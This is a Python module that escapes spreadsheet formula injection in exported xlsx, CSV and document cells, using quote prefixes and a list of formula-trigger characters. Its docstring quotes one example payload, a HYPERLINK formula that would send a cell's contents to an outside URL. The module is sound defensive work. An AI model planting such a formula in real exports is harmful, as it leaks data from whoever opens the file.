"""Writing the cells of every export (xlsx, CSV, docx, PDF), so that what someone typed stays text.

A spreadsheet reads a cell that starts with =, +, -, @, a tab or a carriage return as a formula (CWE-1236,
OWASP "CSV Injection"): an enterprise's title =HYPERLINK("http://…?x="&A1,"点击查看") would run in the
office's copy of the ledger. As OWASP advises, such text is written as text: prefixed with a single quote
in CSV and in documents (whose tables are copied into spreadsheets), and in an xlsx workbook stored as a
string cell marked quotePrefix, the workbook's own form of that quote, which keeps every character the
user wrote so that a re-imported ledger reads the same text back.
"""

from openpyxl.cell import WriteOnlyCell

from huishang.core.text import printable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def text(value):
    """A value for a CSV field or a document: text printable and quoted when a spreadsheet would read it as
    a formula; anything but a str (a number, a date, None) as it was."""
    if not isinstance(value, str):
        return value
    shown = printable(value)
    return f"'{shown}" if looks_like_formula(value) or looks_like_formula(shown) else shown


def xlsx_cell(sheet, value, **style) -> WriteOnlyCell:
    """A cell of ``sheet`` (write-only or not: ``sheet.append`` takes it) holding ``value``; text is stored
    as a string, never as a formula, and ``style`` (font, number_format …) is set on it."""
    cell = WriteOnlyCell(sheet, value=printable(value))
    if isinstance(value, str):
        cell.data_type = "s"
        cell.quotePrefix = looks_like_formula(value) or looks_like_formula(cell.value)
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def xlsx_row(sheet, values) -> list[WriteOnlyCell]:
    """The cells of one row, for ``sheet.append``."""
    return [xlsx_cell(sheet, value) for value in values]
